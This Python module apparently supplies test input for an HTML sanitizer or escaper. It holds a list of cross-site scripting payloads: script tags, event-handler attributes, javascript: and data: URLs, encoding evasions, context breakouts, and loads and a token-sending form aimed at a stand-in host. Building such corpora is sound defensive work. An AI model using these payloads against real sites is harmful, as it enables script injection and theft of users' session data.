"""What an attacker writes where a page may take it for markup.

Each runs `xss()`, sends the browser to another origin, or plants markup of its own, in at least one of the places
where careless pages put texts: between tags, in an attribute, in an address, in a script, in a comment or a title.
"""

# One on a line; `\n`, `\t`, `\0` and `\uXXXX` are what they are in Python.
_BETWEEN_TAGS = r"""
<script>xss()</script>
<SCRIPT>xss()</SCRIPT>
<ScRiPt >xss()</sCrIpT >
<script/x>xss()</script>
<script\n>xss()</script\n>
<script\t>xss()</script\t>
<script src=//canary.test/a.js></script>
<script src="data:text/javascript,xss()"></script>
<script type=module>xss()</script>
<script>/*</script><script>*/xss()</script>
<<script>xss()</script>
<scr<script>ipt>xss()</script>
<svg><script>xss()</script></svg>
<svg><script href="data:text/javascript,xss()" /></svg>
<svg><script>xss&#40;&#41;</script></svg>
<img src=x onerror=xss()>
<img src=x onerror="xss()">
<img src=x onerror='xss()'>
<IMG SRC=x OnErRoR=xss()>
<img/src=x/onerror=xss()>
<img\nsrc=x\nonerror=xss()>
<img\tsrc=x\tonerror=xss()>
<img\u000csrc=x\u000conerror=xss()>
<img src=x onerror=xss``>
<img src=x onerror=&#120;ss()>
<img src=x onerror=&#x78;&#x73;&#x73;()>
<img src=x onerror=eval('x'+'ss()')>
<img src=x onerror=window['xss']()>
<img src=x:x onerror=xss()//
<img src=//canary.test/i.png>
<img srcset="//canary.test/s.png 1x">
<img src onerror=xss() x="
<image src=x onerror=xss()>
<picture><source srcset=//canary.test/p.png><img src=x></picture>
<svg onload=xss()>
<svg/onload=xss()>
<svg onload=xss()//
<svg><g onload=xss()></g></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s>
<svg><set onbegin=xss() attributeName=x dur=1s>
<svg><image href=//canary.test/v.png></svg>
<svg><use href="//canary.test/u.svg#a"></svg>
<svg><a href="javascript:xss()"><text y=20>click</text></a></svg>
<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>
<svg><style><img src=x onerror=xss()></style></svg>
<math><mtext><img src=x onerror=xss()></mtext></math>
<math><mi><style><img src=x onerror=xss()></style></mi></math>
<math href="javascript:xss()">click</math>
<body onload=xss()>
<body onpageshow=xss()>
<video><source onerror=xss()></video>
<video src=x onerror=xss()></video>
<video poster=//canary.test/v.png></video>
<audio src=x onerror=xss()></audio>
<audio src=//canary.test/a.mp3 autoplay></audio>
<track onerror=xss()>
<object data=//canary.test/o></object>
<object data="javascript:xss()"></object>
<object data="data:text/html,<script>parent.xss()</script>"></object>
<embed src=//canary.test/e>
<embed src="javascript:xss()">
<iframe src=//canary.test/f></iframe>
<iframe src="javascript:parent.xss()"></iframe>
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.xss()&gt;"></iframe>
<iframe onload=xss()></iframe>
<frameset onload=xss()>
<link rel=stylesheet href=//canary.test/l.css>
<link rel=preload as=image href=//canary.test/l.png>
<link rel=stylesheet href=x onerror=xss()>
<link rel=icon href=//canary.test/i.ico>
<style>@import '//canary.test/s.css';</style>
<style>body{background:url(//canary.test/b.png)}</style>
<style onload=xss()></style>
<div style="background:url(//canary.test/d.png)">x</div>
<meta http-equiv=refresh content="0;url=//canary.test/m">
<meta http-equiv=refresh content="0;url=javascript:xss()">
<base href=//canary.test/>
<form action=//canary.test/f><input name=token><button>send</button></form>
<form><button formaction="javascript:xss()">click</button></form>
<button formaction=//canary.test/b form=any>click</button>
<input autofocus onfocus=xss()>
<input type=image src=x onerror=xss()>
<input type=image src=//canary.test/t.png>
<textarea autofocus onfocus=xss()></textarea>
<select autofocus onfocus=xss()></select>
<button autofocus onfocus=xss()>x</button>
<a autofocus tabindex=0 onfocus=xss()>x</a>
<details open ontoggle=xss()>x</details>
<dialog open onfocusin=xss()><input autofocus></dialog>
<div contenteditable autofocus onfocus=xss()>x</div>
<div onmouseover=xss()>hover</div>
<div onpointerenter=xss()>hover</div>
<div onclick=xss()>click</div>
<p oncopy=xss()>copy</p>
<div onbeforeinput=xss() contenteditable>type</div>
<div style="animation:x" onanimationstart=xss()>x</div>
<div popover id=p onbeforetoggle=xss()>x</div><button popovertarget=p>x</button>
<marquee onstart=xss()>x</marquee>
<a href="javascript:xss()">click</a>
<a href="JaVaScRiPt:xss()">click</a>
<a href=" javascript:xss()">click</a>
<a href="java\tscript:xss()">click</a>
<a href="java\nscript:xss()">click</a>
<a href="&#106;avascript:xss()">click</a>
<a href="javascript&colon;xss()">click</a>
<a href="\u0001javascript:xss()">click</a>
<a href="data:text/html,<script>xss()</script>">click</a>
<a href="//canary.test/" ping="//canary.test/ping">click</a>
<map><area href="javascript:xss()"></map>
<template><script>xss()</script></template>
<template shadowrootmode=open><img src=x onerror=xss()></template>
<noscript><p title="</noscript><img src=x onerror=xss()>">
<xss id=x tabindex=1 onfocus=xss()></xss>
<x contenteditable onblur=xss()>x</x>
<table background=//canary.test/t.png></table>
<table><td background=//canary.test/c.png></table>
<html onmousemove=xss()>
<p id=x name=x is=x onscrollend=xss()>x</p>
<img src=x alt="`<script>xss()</script>"onerror=xss()>
\u202e<img src=x onerror=xss()>
\u200b<img src=x onerror=xss()>
\0<img src=x onerror=xss()>
\ufeff<img src=x onerror=xss()>
"""

_OUT_OF_SOMETHING = r"""
--><img src=x onerror=xss()>
--!><img src=x onerror=xss()>
]]><img src=x onerror=xss()>
</title><img src=x onerror=xss()>
</textarea><img src=x onerror=xss()>
</style><img src=x onerror=xss()>
</script><img src=x onerror=xss()>
</option></select><img src=x onerror=xss()>
</pre></code></td></tr></table><img src=x onerror=xss()>
</details></summary><img src=x onerror=xss()>
"><img src=x onerror=xss()>
'><img src=x onerror=xss()>
"><script>xss()</script>
" autofocus onfocus=xss() x="
' autofocus onfocus=xss() x='
" onmouseover=xss() x="
"style="background:url(//canary.test/q.png)
x onmouseover=xss()
&quot;><img src=x onerror=xss()>
"/><base href=//canary.test/><x y="
javascript:xss()
javascript://%0axss()
data:text/html,<script>xss()</script>
//canary.test/open
'-xss()-'
";xss();//
';xss();//
\';xss();//
</script><script>xss()</script>
${xss()}
"""


def _unescaped(line):
    for written, meant in {"\\n": "\n", "\\t": "\t", "\\0": "\0"}.items():
        line = line.replace(written, meant)
    for code in ("0001", "000c", "202e", "200b", "feff"):
        line = line.replace(f"\\u{code}", chr(int(code, 16)))
    return line


PAYLOADS = [_unescaped(line) for line in (_BETWEEN_TAGS + _OUT_OF_SOMETHING).splitlines() if line]
